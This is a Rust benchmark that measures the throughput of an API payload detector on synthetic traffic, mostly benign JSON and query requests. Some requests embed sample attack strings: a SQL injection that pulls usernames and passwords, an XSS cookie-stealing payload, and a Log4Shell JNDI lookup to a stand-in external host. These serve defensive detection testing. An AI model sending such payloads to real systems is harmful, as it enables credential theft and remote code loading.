//! Throughput of the payload detectors on typical API traffic: extraction, normalisation and
//! detection, single thread. Mostly benign JSON and query requests with one attack in twenty.
//!
//! `CARGO_TARGET_DIR=… cargo bench -j 1 -p apitap-analyzer --bench payload`
//! prints requests/s for one core.

use apitap_analyzer::payload::{PayloadConfig, PayloadCounters, PayloadDetector, RequestParts};
use std::hint::black_box;
use std::time::{Duration, Instant};

struct Req {
    method: &'static [u8],
    target: String,
    headers: Vec<(&'static [u8], Vec<u8>)>,
    body: Vec<u8>,
}

fn common_headers(i: usize) -> Vec<(&'static [u8], Vec<u8>)> {
    vec![
        (b"host".as_slice(), b"api.example.com".to_vec()),
        (
            b"user-agent".as_slice(),
            if i.is_multiple_of(3) {
                b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36".to_vec()
            } else {
                b"okhttp/4.12.0".to_vec()
            },
        ),
        (b"accept".as_slice(), b"application/json".to_vec()),
        (b"accept-encoding".as_slice(), b"gzip, deflate, br".to_vec()),
        (
            b"authorization".as_slice(),
            b"k1:9f86d081884c7d659a2feaa0c55ad015".to_vec(),
        ),
        (
            b"x-request-id".as_slice(),
            format!("{i:08x}-6e3a-4e55-a0a5-2f7c6f8e1c11").into_bytes(),
        ),
        (b"cookie".as_slice(), b"theme=dark; lang=en-GB".to_vec()),
        (b"x-api-version".as_slice(), b"2024-06-01".to_vec()),
    ]
}

fn workload() -> Vec<Req> {
    let mut v = Vec::new();
    for i in 0..400 {
        let kind = i % 20;
        let mut headers = common_headers(i);
        let r = match kind {
            0 => Req {
                method: b"GET",
                target: format!("/api/v1/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--&page={i}"),
                headers,
                body: vec![],
            },
            1..=9 => Req {
                method: b"GET",
                target: format!("/api/v1/users/{i}/orders?page=2&per_page=50&sort=-created_at&status=open&q=blue+shoes"),
                headers,
                body: vec![],
            },
            10..=17 => {
                headers.push((b"content-type".as_slice(), b"application/json".to_vec()));
                Req {
                    method: b"POST",
                    target: format!("/api/v1/orders/{i}/items"),
                    headers,
                    body: format!(
                        r#"{{"sku":"SKU-{i:05}","quantity":3,"price":19.99,"currency":"EUR","customer":{{"id":"0b7c9c0e-6e3a-4e55-a0a5-2f7c6f8e{i:04x}","email":"jane.doe@example.com","name":"Jane O'Brien"}},"note":"Please leave it at the door, thanks!","tags":["gift","express"],"coupon":null}}"#
                    )
                    .into_bytes(),
                }
            }
            18 => {
                headers.push((b"content-type".as_slice(), b"application/x-www-form-urlencoded".to_vec()));
                Req {
                    method: b"POST",
                    target: "/login".to_string(),
                    headers,
                    body: b"username=jane&password=k1%3Aabcdef&remember=on".to_vec(),
                }
            }
            _ => {
                headers.push((b"content-type".as_slice(), b"application/json".to_vec()));
                Req {
                    method: b"POST",
                    target: "/api/v1/comments".to_string(),
                    headers,
                    body: br#"{"post":12,"body":"<img src=x onerror=alert(document.cookie)>","author":"${jndi:ldap://203.0.113.5/a}"}"#.to_vec(),
                }
            }
        };
        v.push(r);
    }
    v
}

fn main() {
    let det = PayloadDetector::new(PayloadConfig::default()).expect("detector builds");
    let reqs = workload();
    let parts: Vec<RequestParts<'_>> = reqs
        .iter()
        .map(|r| {
            RequestParts::new(
                r.method,
                r.target.as_bytes(),
                r.headers.iter().map(|(n, v)| (*n, v.as_slice())).collect(),
                &r.body,
            )
        })
        .collect();
    let mut counters = PayloadCounters::default();
    // Warm-up.
    for p in &parts {
        black_box(det.scan(p, None, &mut counters));
    }
    let budget = Duration::from_secs(
        std::env::var("PAYLOAD_BENCH_SECS")
            .ok()
            .and_then(|s| s.parse().ok())
            .unwrap_or(5),
    );
    let start = Instant::now();
    let mut n: u64 = 0;
    let mut findings: u64 = 0;
    while start.elapsed() < budget {
        for p in &parts {
            findings += black_box(det.scan(p, None, &mut counters)).findings.len() as u64;
        }
        n += parts.len() as u64;
    }
    let secs = start.elapsed().as_secs_f64();
    let bytes: u64 = counters.bytes;
    println!(
        "payload detection: {n} requests in {secs:.2} s = {:.0} requests/s on one core ({:.1} µs/request, {} findings, {} value bytes examined incl. warm-up)",
        n as f64 / secs,
        secs * 1e6 / n as f64,
        findings,
        bytes
    );
}
